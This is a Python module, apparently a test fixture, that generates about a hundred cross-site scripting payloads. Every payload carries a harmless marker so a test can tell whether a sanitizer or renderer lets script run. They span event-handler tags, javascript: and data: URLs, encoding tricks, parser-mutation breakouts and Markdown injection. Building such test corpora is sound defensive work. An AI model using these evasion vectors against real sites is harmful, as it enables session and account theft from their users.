"""A hundred snippets that would run, each of which marks the page if it does: `document.documentElement.dataset.ran`."""

from __future__ import annotations

MARK = "document.documentElement.dataset.ran=1"
_TAGS = """script|img src=x onerror=!|svg onload=!|svg/onload=!|body onload=!|iframe srcdoc="<script>parent.!</script>"
input autofocus onfocus=!|details open ontoggle=!|video><source onerror=!|audio src=x onerror=!|object data=javascript:!
embed src=javascript:!|marquee onstart=!|math><mi onclick=!|select autofocus onfocus=!|textarea autofocus onfocus=!
style onload=!|link rel=stylesheet href=x onerror=!|form><button formaction=javascript:!|p onmouseover=!
a href=javascript:!|a href="java\tscript:!"|a href=" javascript:!"|a href=JaVaScRiPt:!|a href=data:text/html,<script>!</script>
meta http-equiv=refresh content="0;url=javascript:!"|base href=javascript:!//|isindex action=javascript:! type=image
svg><script>!</script|svg><animate onbegin=! attributeName=x dur=1s|svg><set onbegin=! attributeName=x
svg><a xlink:href=javascript:!><text>x</text></a|svg><use href="data:image/svg+xml,<svg onload=!>"|img src=x:x onerror=!
img srcset=x onerror=!|picture><img src=x onerror=!|image src=x onerror=!|keygen autofocus onfocus=!|ruby onclick=!
table background=javascript:!|td background=javascript:!|div style="background:url(javascript:!)"|div style=width:expression(!)
noscript><p title="</noscript><img src=x onerror=!>"|template><script>!</script></template|xmp><p title="</xmp><img src=x onerror=!>"
title><p title="</title><img src=x onerror=!>"|textarea><p title="</textarea><img src=x onerror=!>"|math><mtext><table><mglyph><style><img src=x onerror=!>
svg></p><style><a id="</style><img src=x onerror=!>"|dialog open onclose=!|bdo onclick=!|li onclick=!|h2 onclick=!"""
_OTHER = (
    r"""<script>!</script>|<SCRIPT>!</SCRIPT>|<scr<script>ipt>!</script>|<script src=data:,!></script>|</script><script>!</script>
"><script>!</script>|'><script>!</script>|"><img src=x onerror=!>|' onmouseover=! x='|" autofocus onfocus=! x="
</title><script>!</script>|</textarea><script>!</script>|</style><script>!</script>|--><script>!</script>|]]><script>!</script>
<![CDATA[<script>!</script>]]>|<?xml-stylesheet href="javascript:!"?>|<!--><img src=x onerror=!>-->|<!--[if IE]><script>!</script><![endif]-->
`<img src=x onerror=!>|``` <script>!</script> ```|**<img src=x onerror=!>**|[x](<javascript:!>)|[x](javascript:!)|![x](javascript:!)
[x](data:text/html,<script>!</script>)|[x](vbscript:!)|[x](java&#115;cript:!)|[x](java&Tab;script:!)|<javascript:!>
[x](x "onmouseover=!)|![x" onerror="!](x)|[x]: javascript:!|# <script>!</script>|> <img src=x onerror=!>
\<script>!\</script>|&lt;script&gt;!&lt;/script&gt;|&#60;script&#62;!&#60;/script&#62;|＜script＞!＜/script＞|%3Cscript%3E!%3C/script%3E
{{ "<script>!</script>" }}|{% raw %}<script>!</script>{% endraw %}|<% ! %>|<img src=x onerror=&#100;ocument.documentElement.dataset.ran=1>
<img """
    '"""'
    r"""><script>!</script>">|<img src=x:alert onerror=! //|<svg><style><img src="</style><img src=x onerror=!>">|<<script>!//<</script>"""
)


def snippets() -> list[str]:
    """Return all of them, each on one line."""
    tags = [
        f"<{one}>" if one != "script" else f"<script>{MARK}</script >" for one in _TAGS.replace("\n", "|").split("|")
    ]
    return [one.replace("!", MARK) for one in (*tags, *_OTHER.replace("\n", "|").split("|"))][:100]
